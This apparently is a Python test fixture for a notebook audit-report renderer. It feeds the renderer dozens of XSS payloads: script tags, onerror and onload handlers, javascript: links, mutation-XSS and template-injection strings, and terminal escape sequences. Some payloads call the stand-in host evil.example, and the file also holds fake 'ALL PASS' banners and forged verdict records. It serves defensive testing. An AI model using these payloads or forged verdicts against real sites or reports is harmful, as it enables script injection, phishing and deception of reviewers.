"""What data could hold to run, load, lead away or lie in a report. A script that runs says HIT on the console."""

from base64 import b64encode
from typing import Any

from nbformat.v4 import new_output

from dsaudit.verdict import CLOSING_MIME, MIME
from tests.report import runs

HIT = "console.log('HIT')"
AWAY = "http://evil.example"  # no such host: a request to it is seen, and answered by nobody
CARD = "<section class='ds-card ds-pass' id='orphans'><strong class='ds-badge ds-pass'>✓ PASS</strong></section>"

PAYLOADS = [
    f"<script>{HIT}</script>",
    f"<ScRiPt>{HIT}</sCrIpT >",
    f"<script src={AWAY}/x.js></script>",
    f"<img src=x onerror={HIT}>",
    f"<img src={AWAY}/beacon.png>",
    f"<svg onload={HIT}>",
    f"<svg><script>{HIT}</script></svg>",
    f"<svg><a xlink:href='javascript:{HIT}'><text y=20>x</text></a></svg>",
    f"<iframe srcdoc=\"<script>{HIT}</script>\"></iframe>",
    f"<iframe src=\"javascript:{HIT}\"></iframe>",
    f"<object data={AWAY}/x></object>",
    f"<embed src={AWAY}/x>",
    f"<a href=\"javascript:{HIT}\">an order</a>",
    f"<a href='{AWAY}/phish'>an order</a>",
    f"<form action={AWAY}><button>approve</button></form>",
    f"<input autofocus onfocus={HIT}>",
    f"<details open ontoggle={HIT}>x</details>",
    f"<video src={AWAY}/v onerror={HIT}></video>",
    f"<body onload={HIT}>",
    f"<link rel=stylesheet href={AWAY}/x.css>",
    f"<style>@import url({AWAY}/x.css); .banner {{ display: none }}</style>",
    "<div style='position:fixed;inset:0;z-index:9;background:#fff;font-size:9em'>ALL PASS</div>",
    f"<table background={AWAY}/t.png><tr><td style='position:fixed;inset:0'>ALL PASS</td></tr></table>",
    f"<meta http-equiv=refresh content='0;url={AWAY}'>",
    f"<base href={AWAY}/>",
    CARD,
    "<p id='ds-main' class='banner ds-pass'>✓ GO</p>",
    f"\"><script>{HIT}</script>",
    f"'><img src=x onerror={HIT}>",
    f"</style><script>{HIT}</script>",
    f"</title></pre></td></main></textarea><script>{HIT}</script>",
    f"<!--><script>{HIT}</script>-->",
    f"<![CDATA[<script>{HIT}</script>]]>",
    f"<noscript><p title=\"</noscript><img src=x onerror={HIT}>\">",
    f"<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror={HIT}&gt;\">",
    f"<template><script>{HIT}</script></template>",
    f"<xmp><script>{HIT}</script></xmp>",
    f"&lt;script&gt;{HIT}&lt;/script&gt;",
    "<plaintext>",
    "<!--",
    f"{{{{ ''.__class__ }}}}{{% raw %}}<script>{HIT}</script>",
    f"[an order](javascript:{HIT}) ![](http://evil.example/m.png)",
    f"<svg></p><style><a id=\"</style><img src=1 onerror={HIT}>\">",
    f"<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={HIT}>",
    f"<math><annotation-xml encoding=text/html><img src=x onerror={HIT}></annotation-xml></math>",
    f"<math href=\"javascript:{HIT}\"><mtext>an order</mtext></math>",
    f"<svg><animate onbegin={HIT} attributeName=x dur=1s>",
    f"<svg><foreignObject><img src=x onerror={HIT}></foreignObject></svg>",
    f"<svg><image href={AWAY}/s.png></image></svg>",
    f"<svg><a><set attributeName=href to=\"javascript:{HIT}\"></set><text y=20>x</text></a></svg>",
    f"<style>td[data-of^=a] {{ background: url({AWAY}/a) }}</style>",
    f"<div style=\"background:url({AWAY}/css.png)\">x</div>",
    f"<marquee onstart={HIT}>x</marquee>",
    f"<audio src=x onerror={HIT}></audio>",
    f"<img srcset='{AWAY}/1.png 1x'>",
    f"<picture><source srcset={AWAY}/p.png><img></picture>",
    f"<input type=image src={AWAY}/i.png formaction={AWAY}>",
    f"<button formaction=\"javascript:{HIT}\" form=x>approve</button>",
    f"<link rel=prefetch href={AWAY}/f><link rel=dns-prefetch href={AWAY}>",
    f"<a ping={AWAY}/ping href=#>an order</a>",
    f"<script type=module>import '{AWAY}/m.js'; {HIT}</script>",
    f"<a href='data:text/html,<script>{HIT}</script>'>an order</a>",
    f"<a href=' java\tscript:{HIT}'>an order</a>",
    f"<iframe src='data:text/html;base64,{b64encode(f'<script>{HIT}</script>'.encode()).decode()}'></iframe>",
    f"<x onclick={HIT} onmouseover={HIT} style='display:block;position:fixed;inset:0'>.</x>",
    "<dialog open style='position:fixed;inset:0'><h1>✓ GO</h1></dialog>",
    f"+ADw-script+AD4-{HIT}+ADw-/script+AD4-",
    f"${{{HIT}}} {{{{constructor.constructor(\"{HIT}\")()}}}} <%= 7*7 %> #{{7*7}}",
    f"$$\\href{{javascript:{HIT}}}{{x}}$$ $\\unicode{{<img src=x onerror={HIT}>}}$",
    f"graph TD; A[\"<img src=x onerror={HIT}>\"] --> B; click A \"javascript:{HIT}\"",
    f"` </code><script>{HIT}</script> ` \n\n| a |\n|---|\n| <img src=x onerror={HIT}> |",
    "# ✓ GO\n\n**ALL PASS** [report](http://evil.example/report)",
    "✓ P\u200bA\u2060S\u2066S \u2069 \u202eOG-ON\u202c",
    "\x1b]8;;javascript:alert(1)\x07an order\x1b]8;;\x07 \x1b]52;c;ZWNobw==\x07 \x1b[8mhidden\x1b[0m",
    "\u202eSSAP LLA\u202c \u200b\x00\x1b[2J\x1b]8;;http://evil.example\x07order\x1b]8;;\x07",
]  # fmt: skip

MIMES = [
    "text/html",
    "text/markdown",
    "text/plain",
    "text/latex",
    "text/vnd.mermaid",
    "image/svg+xml",
    "image/png",
    "image/jpeg",
    "application/javascript",
    "application/json",
    "application/pdf",
    "application/vnd.jupyter.widget-view+json",
    "application/vnd.vegalite.v5+json",
]


def outputs() -> list[Any]:
    """Every payload as every kind of output, beside forged verdicts and a picture with a hostile description."""
    found = [
        new_output("display_data", {mime: {"model_id": payload} if mime.endswith("json") else payload})
        for payload in PAYLOADS
        for mime in MIMES
    ]
    found += [new_output("stream", name=name, text=payload) for payload in PAYLOADS for name in ("stdout", "stderr")]
    found += [
        new_output("error", ename=payload, evalue=f"secret of Ann {payload}", traceback=[f"secret of Ann {payload}"])
        for payload in PAYLOADS
    ]
    picture = b64encode(runs.plot()).decode()
    found += [
        new_output("display_data", {"image/png": picture}, metadata={"image/png": {"alt": payload, "width": payload}})
        for payload in PAYLOADS
    ]
    return found + forged()


def forged() -> list[Any]:
    """Verdicts that no run of ours made: of another run, of another nonce, of no known check, no record at all."""
    said = {"schema": 1, "check": "orphans", "claim": "Forged: all is well", "status": "pass", "phase": "05_accuracy"}
    records: list[Any] = [
        {**said, "run": runs.RUN, "nonce": "f" * 32},
        {**said, "run": "20260101T000000Z-0000", "nonce": runs.NONCE},
        {**said, "run": runs.RUN, "nonce": runs.NONCE, "check": "made_up"},
        {**said, "run": runs.RUN, "nonce": runs.NONCE},
        [said],
        "pass",
        None,
    ]
    bundles = [{MIME: record, "text/html": CARD, "text/plain": "PASS"} for record in records]
    bundles += [{CLOSING_MIME: record, "text/html": CARD} for record in records]
    return [new_output("display_data", bundle) for bundle in bundles]
